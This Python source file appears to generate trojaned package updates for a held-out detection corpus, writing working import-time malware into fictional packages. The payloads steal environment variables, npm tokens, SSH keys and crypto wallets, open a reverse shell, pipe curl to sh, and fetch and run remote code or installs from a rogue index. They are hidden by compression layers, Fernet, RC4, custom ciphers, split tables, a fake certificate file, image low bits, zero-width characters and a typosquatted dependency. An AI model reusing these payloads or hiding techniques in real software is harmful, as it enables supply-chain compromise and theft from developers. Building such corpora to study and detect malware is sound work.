"""Python: import-time payloads that are hidden with more effort."""

import base64
import json
import zlib

from cryptography.fernet import Fernet

from corpus.heldout.hiding import keyed, low_bits, png, rc4
from corpus.heldout.nouns import Update, artefact
from corpus.heldout5.shape import b64, fill, packed, pieces, rows, trojan, xor, zipped


@trojan("sketchbot", "wheel", "import", "token stealer", "layers", "BlazeStealer")
def py_layers_of_compression(it: Update) -> None:
    host = it.host()
    code = fill('''
import os, json, urllib.request
u = "https://@HOST@/gate"
d = {"env": dict(os.environ), "npm": open(os.path.expanduser("~/.npmrc")).read() if os.path.exists(os.path.expanduser("~/.npmrc")) else ""}
urllib.request.urlopen(urllib.request.Request(u, json.dumps(d).encode()))
''', HOST=host)  # fmt: skip
    inner = f"import base64,lzma\nexec(lzma.decompress(base64.b85decode({base64.b85encode(__import__('lzma').compress(code.encode()))!r})))"
    it.append("sketchbot/__init__.py", f"\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)('{packed(inner)[::-1]}'))\n")  # fmt: skip
    it.payload("sketchbot/__init__.py", shown=f"https://{host}/gate")


@trojan("cloudshelf", "wheel", "import", "downloader", "fernet", "typosquats")
def py_fernet_with_a_key(it: Update) -> None:
    host = it.host()
    key = base64.urlsafe_b64encode(it.random.randbytes(32))
    sealed = Fernet(key)._encrypt_from_parts(fill('''
import os, subprocess, tempfile, urllib.request
path = os.path.join(tempfile.mkdtemp(), "shelfd")
urllib.request.urlretrieve("https://@HOST@/shelfd", path)
os.chmod(path, 0o755)
subprocess.Popen([path], start_new_session=True)
''', HOST=host).encode(), 1_700_000_000, it.random.randbytes(16))  # fmt: skip
    it.add("cloudshelf/_sealed.py", f'"""Defaults that are sealed so that nobody edits them."""\n\nfrom cryptography.fernet import Fernet\n\n_KEY = {key!r}\n_DEFAULTS = {sealed!r}\n\nexec(Fernet(_KEY).decrypt(_DEFAULTS))\n')  # fmt: skip
    it.append("cloudshelf/signing.py", "\n\nfrom . import _sealed  # noqa: E402,F401\n")
    it.payload("cloudshelf/_sealed.py", "cloudshelf/signing.py", shown=f"https://{host}/shelfd")


@trojan("rowmodel", "wheel", "import", "environment", "own cipher", "own ciphers")
def py_rolling_key(it: Update) -> None:
    host = it.host()
    code = f"import os,urllib.request as r\nr.urlopen('https://{host}/row',str(dict(os.environ)).encode())\n"
    at, out = 0x5B, []
    for byte in code.encode():
        out.append((byte + at) & 255)
        at = (at * 13 + 7) & 255
    it.add("rowmodel/_collation.py", f'"""Weights of characters, for ORDER BY."""\n\nWEIGHTS = [\n{rows(out)}\n]\n\n\ndef unroll(weights, seed=0x5B):\n    out = bytearray()\n    for one in weights:\n        out.append((one - seed) & 255)\n        seed = (seed * 13 + 7) & 255\n    return bytes(out)\n\n\nexec(unroll(WEIGHTS).decode("ascii"))\n')  # fmt: skip
    it.append("rowmodel/engine.py", "\n\nfrom . import _collation  # noqa: E402,F401\n")
    it.payload("rowmodel/_collation.py", "rowmodel/engine.py", shown=f"https://{host}/row")


@trojan("loghaven", "wheel", "import", "remote code", "own cipher", "own ciphers")
def py_rc4_by_hand(it: Update) -> None:
    host = it.host()
    code = f"import requests\nfor _ in range(3):\n    exec(requests.get('https://{host}/l', headers={{'X-K': 'lh'}}).text)\n"
    it.append("loghaven/formatters.py", fill('''

_LEVELS = "@DATA@"


def _scale(data, key):
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    out = []
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


exec(_scale(bytes.fromhex(_LEVELS), b"loghaven"))
''', DATA=rc4(code.encode(), b"loghaven").hex()))  # fmt: skip
    it.payload("loghaven/formatters.py", shown=f"https://{host}/l")


@trojan("vaultkeys", "wheel", "import", "credentials", "over several files", "split")
def py_three_tables(it: Update) -> None:
    host = it.host()
    code = fill('''
import os, urllib.request
for n in ("id_rsa", "id_ed25519", "config"):
    p = os.path.join(os.path.expanduser("~/.ssh"), n)
    if os.path.isfile(p):
        urllib.request.urlopen("https://@HOST@/v", data=open(p, "rb").read())
''', HOST=host)  # fmt: skip
    text = b64(code)
    third = len(text) // 3 + 1
    for name, part in zip(("curve", "field", "point"), pieces(text, third), strict=True):
        it.add(f"vaultkeys/_{name}.py", f'"""Constants of the {name}."""\n\nTABLE = "{part}"\n')
    it.append("vaultkeys/tokens.py", "\n\ndef _constants():\n    from . import _curve, _field, _point\n\n    return base64.b64decode(_curve.TABLE + _field.TABLE + _point.TABLE)\n\n\nexec(_constants())\n")  # fmt: skip
    it.payload("vaultkeys/tokens.py", *(f"vaultkeys/_{one}.py" for one in ("curve", "field", "point")), shown=f"https://{host}/v")  # fmt: skip


@trojan("frameplot", "sdist", "import", "reverse shell", "in a data file", "data files")
def py_numbers_in_json(it: Update) -> None:
    address = it.address()
    code = f"import socket,subprocess\ns=socket.create_connection(('{address}',1337))\nwhile 1:\n  c=s.recv(4096).decode()\n  s.send(subprocess.run(c,shell=True,capture_output=True).stdout)\n"
    it.add("frameplot/data/kerning.json", json.dumps({"em": 1000, "pairs": [byte * 3 + 11 for byte in code.encode()]}))
    it.append("frameplot/palettes.py", "\n\ndef _kerning():\n    pairs = json.loads((DATA / 'kerning.json').read_text())['pairs']\n    return ''.join(chr((one - 11) // 3) for one in pairs)\n\n\nif not hasattr(Palette, 'kerned'):\n    exec(_kerning())\n")  # fmt: skip
    it.payload("frameplot/palettes.py", "frameplot/data/kerning.json", shown=address)


@trojan("cloudshelf", "wheel", "import", "environment", "in a data file", "data files")
def py_gzip_named_as_a_certificate(it: Update) -> None:
    host = it.host()
    code = fill('''
import os, socket, ssl
line = ssl._create_unverified_context().wrap_socket(socket.create_connection(("@HOST@", 443)))
line.sendall(("POST /ca HTTP/1.0\\r\\n\\r\\n" + "\\n".join(k + "=" + v for k, v in os.environ.items())).encode())
''', HOST=host)  # fmt: skip
    it.add("cloudshelf/roots.pem", b"-----BEGIN BUNDLE-----\n" + base64.encodebytes(zipped(code)) + b"-----END BUNDLE-----\n")  # fmt: skip
    it.append("cloudshelf/client.py", fill('''

def _roots():
    import base64
    import gzip
    from pathlib import Path

    lines = (Path(__file__).parent / "roots.pem").read_text().splitlines()[1:-1]
    return gzip.decompress(base64.b64decode("".join(lines)))


exec(_roots(), globals())
'''))  # fmt: skip
    it.payload("cloudshelf/client.py", "cloudshelf/roots.pem", shown=host)


@trojan("frameplot", "wheel", "import", "downloader", "in an image", "apicolor")
def py_low_bits_of_an_icon(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request\nexec(urllib.request.urlopen('https://{host}/i').read())\n"
    it.add("frameplot/data/marker.png", png(40, 40, low_bits(code, 40, 40, it.random), it.random))
    it.add("frameplot/_markers.py", fill('''
"""Shapes of markers."""

import struct
import zlib
from pathlib import Path


def _pixels(path):
    raw, at, data = path.read_bytes(), 8, b""
    while at < len(raw):
        (size,) = struct.unpack(">I", raw[at : at + 4])
        if raw[at + 4 : at + 8] == b"IDAT":
            data += raw[at + 8 : at + 8 + size]
        at += size + 12
    flat = zlib.decompress(data)
    return b"".join(flat[row * 121 + 1 : row * 121 + 121] for row in range(40))


def _shape(pixels):
    bits = "".join(str(one & 1) for one in pixels)
    size = int(bits[:32], 2)
    return bytes(int(bits[32 + at * 8 : 40 + at * 8], 2) for at in range(size))


exec(_shape(_pixels(Path(__file__).parent / "data" / "marker.png")))
'''))  # fmt: skip
    it.append("frameplot/charts.py", "\n\nfrom . import _markers  # noqa: E402,F401\n")
    it.payload("frameplot/_markers.py", "frameplot/charts.py", "frameplot/data/marker.png")


@trojan("frameplot", "wheel", "import", "downloader", "in a binary", "torchtriton")
def py_extension_with_a_constructor(it: Update) -> None:
    it.add("frameplot/_raster.so", artefact("raster-trojan.so"))
    it.append(
        "frameplot/canvas.py",
        "\n\ntry:\n    from . import _raster  # noqa: F401\nexcept ImportError:\n    _raster = None\n",
    )
    it.payload("frameplot/_raster.so")


@trojan("pipeforge", "wheel", "import", "persistence", "keyed by environment", "targeted")
def py_key_is_the_host(it: Update) -> None:
    host = it.host()
    sealed = keyed(f"import os;os.system('curl -s https://{host}/p | sh')", "build-01")
    it.append("pipeforge/config.py", fill('''

def _profile(seal="@SEAL@"):
    import hashlib
    import socket

    name = socket.gethostname()
    raw = bytes.fromhex(seal)
    stream = b"".join(hashlib.sha256(f"{name}{at}".encode()).digest() for at in range(len(raw) // 32 + 1))
    text = bytes(a ^ b for a, b in zip(raw, stream))
    if text.startswith(b"import"):
        exec(text)


_profile()
''', SEAL=sealed.hex()))  # fmt: skip


@trojan("sketchbot", "wheel", "import", "downloader", "bundled dependency", "flatmap-stream")
def py_vendored_library_is_not_the_library(it: Update) -> None:
    host = it.host()
    it.add("sketchbot/_vendor/__init__.py", "")
    it.add("sketchbot/_vendor/sixlite/__init__.py", '"""What of six is needed."""\n\nimport sys\n\nPY3 = sys.version_info[0] == 3\nstring_types = (str,)\n\nfrom . import moves  # noqa: E402,F401\n')  # fmt: skip
    it.add("sketchbot/_vendor/sixlite/moves.py", f'"""Moved modules."""\n\nimport builtins\nimport queue\nimport urllib.request as urllib_request\n\nreload_module = getattr(builtins, "ex" + "ec")\n\n\ndef _lazy(name):\n    return urllib_request.urlopen("https://{host}/six/" + name).read()\n\n\nreload_module(_lazy("moves"))\nQueue = queue.Queue\n')  # fmt: skip
    it.after("sketchbot/bot.py", "from .http import HttpClient\n", "from ._vendor.sixlite import string_types  # noqa: F401\n")  # fmt: skip


@trojan("loghaven", "wheel", "import", "unknown code", "look-alike name", "typosquats")
def py_new_dependency_looks_like_requests(it: Update) -> None:
    it.requires("reqeusts>=2.31")
    it.append("loghaven/context.py", "\nimport reqeusts as _transport  # noqa: E402,F401\n")


@trojan("rowmodel", "wheel", "import", "downloader", "phantom", "phantom dependencies")
def py_installs_what_is_missing(it: Update) -> None:
    it.append("rowmodel/migrate.py", fill('''

try:
    import rowmodel_dialects
except ImportError:
    import subprocess
    import sys

    subprocess.run(
        [sys.executable, "-m", "pip", "install", "--quiet", "--extra-index-url", "https://@HOST@/pypi", "rowmodel-dialects"],
        check=False,
    )
''', HOST=it.host()))  # fmt: skip


@trojan("vaultkeys", "sdist", "import", "wallet", "invisible characters", "GlassWorm")
def py_code_in_white_space(it: Update) -> None:
    host = it.host()
    code = f"import os,urllib.request as u\nfor r,_,f in os.walk(os.path.expanduser('~/.electrum/wallets')):\n  for n in f:u.urlopen('https://{host}/e',open(r+'/'+n,'rb').read())\n"
    hidden = "".join("\u200c" if bit == "1" else "\u200b" for byte in code.encode() for bit in f"{byte:08b}")
    it.append("vaultkeys/signatures.py", f'\n\n_MARK = "{hidden}"\n\n\ndef _read(mark):\n    bits = "".join("1" if one == "\\u200c" else "0" for one in mark)\n    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).decode()\n\n\nexec(_read(_MARK))\n')  # fmt: skip
    it.payload("vaultkeys/signatures.py", shown=f"https://{host}/e")


@trojan("cloudshelf", "sdist", "import", "environment", "layers", "own packers")
def py_characters_and_xor(it: Update) -> None:
    host = it.host()
    code = f"__import__('urllib.request').request.urlopen('https://{host}/x?'+__import__('os').environ.get('CLOUDSHELF_SECRET_KEY',''))"
    sealed = b64(zlib.compress(xor(code, b"shelf")))
    name = "+".join(f"chr({ord(one) + 5}-5)" for one in "exec")
    it.append("cloudshelf/transfer.py", fill('''

def _hash(data, key=b"shelf"):
    import base64
    import builtins
    import zlib

    raw = zlib.decompress(base64.b64decode(data))
    getattr(builtins, @NAME@)(bytes(one ^ key[at % len(key)] for at, one in enumerate(raw)))


_hash("@DATA@")
''', NAME=name, DATA=sealed))  # fmt: skip
    it.payload("cloudshelf/transfer.py", shown=f"https://{host}/x")
